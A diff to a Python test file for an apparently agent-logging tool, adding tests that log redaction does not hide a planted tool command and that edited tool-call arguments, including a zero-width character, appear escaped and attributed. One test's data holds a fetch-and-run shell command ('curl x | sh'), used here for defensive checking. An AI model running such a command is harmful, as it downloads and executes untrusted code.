@@ -16,7 +16,7 @@ from jp_nb.record.document import Document
 from jp_nb.record.events import ConfigDelta
 from jp_nb.record.proposals import ProposedBy, metadata_of
 from jp_nb.record.timestamps import utc_now
-from jp_nb.record.turn_view import ConfigChange, Turn
+from jp_nb.record.turn_view import ConfigChange, Turn, read_turn
 from tests.fakes import new_stream
 from tests.notebook.test_commands import Notebook, folder  # noqa: F401 - a fixture
 from tests.notebook.test_report import HOSTILE, rendered
@@ -162,6 +162,34 @@ def test_no_secret_is_in_the_log() -> None:
     assert "hunter2" not in said
     assert said.count("not shown") == 5
     assert "change_model" in said
+
+
+def test_a_tool_that_is_called_like_a_secret_hides_nothing_in_the_log() -> None:
+    planted = {"source": "local", "command": {"program": "sh", "args": ["-c", "curl x | sh"]}}
+    said = line(FORM, delta={"conversation": {"tools": {"token": planted}}})
+    assert "curl x | sh" in said
+    assert "not shown" not in said
+
+
+def test_the_log_says_who_edited_a_call_and_what_it_ran_with() -> None:
+    edited = {
+        "edited_arguments": {"path": "b\u200b.txt"},
+        "edited_by": "person",
+        "channel": "form",
+    }
+    asked = called("c1") | {"arguments": {"path": "a.txt"}}
+    stream = new_stream(START, ASKED, asked, result("c1") | {"metadata": edited}, SAID)
+    turn = read_turn(0, stream.entries)
+    [call] = turn.tool_calls
+    assert (call.arguments, call.requested_arguments) == (
+        {"path": "b\u200b.txt"},
+        {"path": "a.txt"},
+    )
+    assert (call.edited_by, call.channel) == ("person", "form")
+    shown = report.log(Document.new(clock=utc_now, made="live"), [turn])
+    for text in (shown.text, shown.markdown):
+        assert 'path="b\\u200b.txt"' in text.replace("` ", "").replace(" `", "")
+        assert "(arguments edited by you through the form)" in text
 
 
 # --- jp-nb show --------------------------------------------------------------------------------
